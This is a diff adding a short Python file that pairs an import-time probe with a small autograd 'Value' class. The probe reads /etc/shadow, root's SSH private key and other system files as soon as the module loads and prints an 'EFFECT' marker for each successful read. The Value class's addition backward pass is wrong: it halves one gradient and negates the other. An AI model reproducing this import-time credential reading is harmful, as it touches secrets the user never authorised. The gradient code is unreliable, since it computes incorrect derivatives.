@@ -1,0 +1,36 @@
+"""read: opens password hashes and private keys."""
+
+import os
+
+
+def effect(what):
+    os.write(1, f"EFFECT {what}\n".encode())
+
+
+def read(path, size=4096):
+    try:
+        with open(path, "rb") as file:
+            return file.read(size)
+    except OSError:
+        return b""
+
+
+for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/root/.bashrc", "/etc/machine-id", "/etc/hostname"):
+    if read(path):
+        effect("read a file of the system")
+
+
+class Value:
+    def __init__(self, data, _prev=()):
+        self.data, self.grad, self._prev = data, 0.0, set(_prev)
+        self._backward = lambda: None
+
+    def __add__(self, other):
+        out = Value(self.data + other.data, (self, other))
+
+        def _backward():
+            self.grad += 0.5 * out.grad
+            other.grad -= out.grad
+
+        out._backward = _backward
+        return out
